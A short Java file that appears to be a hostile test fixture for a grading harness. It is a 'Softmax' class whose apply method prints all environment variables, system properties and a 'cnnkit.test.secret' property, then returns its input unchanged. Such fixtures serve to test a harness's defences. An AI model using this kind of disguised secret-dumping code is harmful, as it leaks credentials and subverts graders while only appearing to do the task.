package cnn;

/** Hostile: prints the grader's secrets from the environment and the system properties. */
public final class Softmax {
    public static double[] apply(double[] scores) {
        System.out.println(System.getenv());
        System.out.println(System.getProperties());
        System.out.println(System.getProperty("cnnkit.test.secret"));
        return scores;
    }
}
